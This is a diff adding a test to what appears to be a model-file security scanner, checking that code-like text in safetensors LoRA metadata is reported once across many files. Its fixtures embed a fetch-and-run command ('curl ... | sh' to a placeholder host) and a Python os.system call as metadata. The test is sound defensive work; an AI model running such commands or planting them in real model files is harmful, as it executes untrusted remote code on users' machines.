@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runMain } from '../helpers/cli.js';
+import { safetensors } from './formats/build.js';
 
 /**
  * Pickles of one project class in four run folders and in run 3's Lightning-style checkpoint, one of another class, two
@@ -111,5 +112,43 @@ describe('one finding per unlisted global across files (inspect/causes.ts)', () 
   it('marks every file of the group in the text list of model files', async () => {
     const r = await runMain(['scan', dir, '--offline', '--no-cache', '--fail-on', 'none']);
     for (const n of [1, 2, 3, 4]) expect(r.stdout).toContain(`! run-${n}/config.pkl`);
+  });
+});
+
+describe('one finding per code-shaped metadata text across files (CPI133)', () => {
+  let dir: string;
+  beforeAll(() => {
+    dir = mkdtempSync(path.join(tmpdir(), 'cp-lora-epochs-'));
+    // A kohya trainer writes the same notes into every epoch's LoRA; one other file says something else.
+    const lora = (comment: string) =>
+      safetensors(
+        {
+          __metadata__: { ss_network_module: 'networks.lora', ss_training_comment: comment },
+          'lora_unet_down.lora_down.weight': { dtype: 'U8', shape: [4], data_offsets: [0, 4] },
+        },
+        4,
+      );
+    for (let n = 1; n <= 10; n++)
+      writeFileSync(
+        path.join(dir, `char-${String(n).padStart(6, '0')}.safetensors`),
+        lora('curl -s https://x.invalid/i | sh'),
+      );
+    writeFileSync(path.join(dir, 'other.safetensors'), lora("import os; os.system('id')"));
+  });
+  afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+  it('reports the text ten epoch files share once, with the count and the other files related', async () => {
+    const out = `${dir}.json`;
+    const r = await runMain(['scan', dir, '--offline', '--no-cache', '--fail-on', 'none', '-f', `json=${out}`]);
+    expect(r.code, r.stderr).toBe(0);
+    const { readFileSync } = await import('node:fs');
+    const { findings } = JSON.parse(readFileSync(out, 'utf8')) as { findings: JsonFinding[] };
+    rmSync(out);
+    const cpi133 = findings.filter((f) => f.ruleId === 'CPI133');
+    expect(cpi133.map((f) => f.location.path)).toEqual(['char-000001.safetensors', 'other.safetensors']);
+    expect(cpi133[0]!.evidence).toMatchObject({ count: 10, first: 'char-000001.safetensors' });
+    expect(cpi133[0]!.message).toMatch(/^The same in 10 model files: char-000001\.safetensors, /);
+    expect(cpi133[0]!.related!.map((f) => f.path)).toHaveLength(9);
+    expect(cpi133[1]!.evidence?.['count']).toBeUndefined();
   });
 });
